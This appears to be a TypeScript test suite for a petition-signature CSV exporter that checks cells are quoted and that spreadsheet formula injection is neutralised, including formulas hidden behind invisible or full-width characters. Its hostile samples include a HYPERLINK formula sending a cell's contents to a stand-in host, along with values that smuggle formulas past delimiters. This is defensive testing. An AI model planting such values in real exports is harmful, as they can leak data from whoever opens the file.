import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { cellsReadBy, readers, runsAsFormula } from "@/test/spreadsheet";
import { csvCell, csvRow, utf8Bom } from "./csv";
import { signatureRow } from "./signature-row";

describe("csvCell", () => {
  it("leaves plain text as it is", () => {
    expect(csvCell("Amina Khalil")).toBe("Amina Khalil");
    expect(csvCell("رائد الصالح")).toBe("رائد الصالح");
  });

  it("quotes commas, quotes and line breaks, doubling inner quotes", () => {
    expect(csvCell("Saleh, Raed")).toBe('"Saleh, Raed"');
    expect(csvCell('the "people\'s choice"')).toBe('"the ""people\'s choice"""');
    expect(csvCell("line one\nline two")).toBe('"line one\nline two"');
    expect(csvCell("a\r\nb")).toBe('"a\r\nb"');
  });

  it.each(["=HYPERLINK(\"http://x\")", "+1+2", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"])(
    "neutralises a cell that a spreadsheet would run as a formula: %j",
    (value) => {
      const cell = csvCell(value);
      const unquoted = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
      expect(unquoted).toBe(`'${value}`);
    },
  );

  it.each(["\u200B=HYPERLINK(\"http://x\")", "\u2060\u200B+1+2", "\u00A0@SUM(A1)", " =1+1", "＝HYPERLINK(\"http://x\")", "＋1", "－1", "＠SUM(A1)", "\u200D＝1"])(
    "neutralises a formula behind invisible characters or in full-width form: %j",
    (value) => {
      const cell = csvCell(value);
      const unquoted = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
      expect(unquoted).toBe(`'${value}`);
    },
  );

  it("does not touch a formula character later in the text", () => {
    expect(csvCell("a=b")).toBe("a=b");
  });
});

describe("csvRow", () => {
  it("joins cells with commas and ends with CRLF", () => {
    expect(csvRow(["a", "b,c", ""])).toBe('a,"b,c",\r\n');
  });
});

describe("signatureRow", () => {
  it("writes the same record as csvRow would, free text guarded and quoted", async () => {
    const { signatureRow } = await import("./signature-row");
    const row = [7, Date.UTC(2016, 9, 7, 13, 53), '=Raed "the rescuer", Saleh', "r@example.org", "CD", "line\nbreak", 1, 0, "confirmed"] as const;
    expect(signatureRow([...row])).toBe(
      csvRow([
        "2016-10-07T13:53:00.000Z",
        '=Raed "the rescuer", Saleh',
        "r@example.org",
        "Congo - Kinshasa",
        "CD",
        "line\nbreak",
        "yes",
        "no",
        "confirmed",
      ]),
    );
  });
});

const hostile = [
  'Ann;=HYPERLINK("http://x.example/?"&C2)',
  "Ann;=1+1",
  "Ann\t=1+1",
  "Ann; \u200B+cmd",
  'Ann;"=1+1"',
  "Ann;\t@SUM(A1)",
  "Ann;＝1",
  "first line\n=1+1",
  "first line\r\n-1+1",
  "Saleh, Raed;=1",
];

describe("every export read by a spreadsheet that splits on , ; or tab", () => {
  it.each(readers)("finds no cell that runs as a formula (split on %j)", (reader) => {
    const rows = hostile.map((name, i) => signatureRow([i, Date.UTC(2024, 0, 1), name, "a@example.org", "SY", name, 1, 0, "confirmed"]));
    const text = utf8Bom + csvRow(["Name", ...hostile]) + rows.join("");
    const cells = cellsReadBy(reader, text);
    expect(cells.length).toBeGreaterThan(hostile.length);
    expect(cells.filter(runsAsFormula)).toEqual([]);
  });

  it("finds none whatever the free text holds (property)", () => {
    const unit = fc.constantFrom("a", " ", ";", "\t", "\r", "\n", ",", '"', "'", "=", "+", "-", "@", "＝", "\u200B", "\u00A0");
    const text = fc.string({ unit, maxLength: 12 });
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 4 }), (cells) => {
        const csv = utf8Bom + csvRow(["x", ...cells]) + signatureRow([1, 0, cells[0]!, "a@example.org", "SY", cells.at(-1)!, 0, 0, "confirmed"]);
        for (const reader of readers) expect(cellsReadBy(reader, csv).filter(runsAsFormula)).toEqual([]);
      }),
      { numRuns: 1_000 },
    );
  });

  it("keeps the text as typed for the reader it was written for, but for the guard's apostrophes", () => {
    expect(cellsReadBy(readers[0], csvRow(["Ann;=1", "line\n=2", "a; b\tc"]))).toEqual(["Ann;'=1", "line\n'=2", "a; b\tc"]);
  });
});
